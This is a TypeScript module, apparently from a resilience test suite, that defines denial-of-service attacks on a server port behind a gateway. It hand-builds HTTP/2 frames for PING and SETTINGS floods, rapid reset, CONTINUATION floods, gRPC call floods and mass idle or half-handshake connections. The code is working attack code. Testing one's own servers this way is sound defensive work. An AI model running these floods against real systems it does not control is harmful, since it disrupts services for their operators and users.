import { connect, type Socket } from 'node:net';
import { forever, write } from './byte-attacks.ts';
import { type Attack, again, type Target } from './target.ts';

/** Attacks on the port of a node, where gateways alone should come: the server is a gateway before it. */
export const trunkAttacks: readonly Attack[] = [
  {
    name: 'trunk-pings',
    what: 'pings of HTTP/2 without end at the port of a node, from 5 connections',
    tokens: false,
    isAtNode: true,
    run: (target) =>
      again(5, () => http2(target, (socket) => forever(target, socket, many(frame(ping, 0, 0, zeros(8)))))),
  },
  {
    name: 'trunk-settings',
    what: 'settings of HTTP/2 without end, likewise',
    tokens: false,
    isAtNode: true,
    run: (target) => again(5, () => http2(target, (socket) => forever(target, socket, many(frame(settings, 0, 0))))),
  },
  {
    name: 'trunk-resets',
    what: 'streams that are reset as soon as they are opened (rapid reset), likewise',
    tokens: false,
    isAtNode: true,
    run: (target) =>
      again(5, () =>
        http2(target, (socket) => streams(target, socket, endHeaders, (id) => [frame(reset, 0, id, cancel)])),
      ),
  },
  {
    name: 'trunk-streams',
    what: 'tiny streams without end, likewise',
    tokens: false,
    isAtNode: true,
    run: (target) =>
      again(5, () => http2(target, (socket) => streams(target, socket, endHeaders | endStream, () => []))),
  },
  {
    name: 'trunk-metadata',
    what: 'headers that do not end, likewise',
    tokens: false,
    isAtNode: true,
    run: (target) =>
      again(5, () =>
        http2(target, (socket) => {
          write(target, socket, frame(headers, 0, 1, aCall));
          forever(target, socket, many(frame(continuation, 0, 1, Buffer.from([0x40, 1, 0x61, 1, 0x62]))));
        }),
      ),
  },
  {
    name: 'trunk-calls',
    what: 'calls of gRPC to a method that is none, each as soon as it is answered, from 60 connections',
    tokens: false,
    isAtNode: true,
    run: (target) =>
      again(60, () => {
        let id = 1;
        const call = (socket: Socket): void => {
          write(target, socket, frame(headers, endHeaders | endStream, id, aCall));
          id += 2;
        };
        const socket = http2(target, call);
        socket.on('data', () => call(socket));
        return socket;
      }),
  },
  {
    name: 'trunk-connections',
    what: '5,000 connections that say nothing, half a ClientHello, or the beginning of HTTP/2',
    tokens: false,
    isAtNode: true,
    openFiles: 5500,
    run(target) {
      let made = 0;
      const beginnings = [Buffer.alloc(0), Buffer.from([0x16, 3, 1, 2, 0, 1, 0]), preface];
      again(5000, () => at(target, (socket) => write(target, socket, beginnings[made++ % 3]!)), 1000);
    },
  },
];

const [headers, reset, settings, ping, continuation] = [1, 3, 4, 6, 9];
const [endStream, endHeaders] = [1, 4];
const zeros = (length: number): Buffer => Buffer.alloc(length);
const cancel = Buffer.from([0, 0, 0, 8]);
/** POST http /x, by the static table of HPACK. */
const aCall = Buffer.from([0x83, 0x86, 0x44, 2, 0x2f, 0x78, 0x41, 1, 0x78]);

function frame(type: number, flags: number, stream: number, body = zeros(0)): Buffer {
  const head = zeros(9);
  head.writeUIntBE(body.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, body]);
}

const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(settings, 0, 0)]);

function many(one: Buffer): Buffer {
  return Buffer.concat(Array<Buffer>(2000).fill(one));
}

/** Opens streams as fast as they are taken, each with what `then` makes of its number. */
function streams(target: Target, socket: Socket, flags: number, then: (id: number) => readonly Buffer[]): void {
  let id = 1;
  const next = (): Buffer => {
    const parts: Buffer[] = [];
    for (let count = 0; count < 500; count++, id += 2) parts.push(frame(headers, flags, id, aCall), ...then(id));
    return Buffer.concat(parts);
  };
  const more = (): void => {
    while (!socket.destroyed && write(target, socket, next()));
  };
  socket.on('drain', more);
  more();
}

function http2(target: Target, then: (socket: Socket) => void): Socket {
  const socket = at(target, () => {
    write(target, socket, preface);
    then(socket);
  });
  return socket;
}

function at({ url, seen }: Target, then: (socket: Socket) => void): Socket {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname, () => then(socket));
  socket.on('data', (data) => {
    seen.received += data.length;
  });
  socket.once('close', () => seen.answers.set('cut', (seen.answers.get('cut') ?? 0) + 1));
  return socket;
}
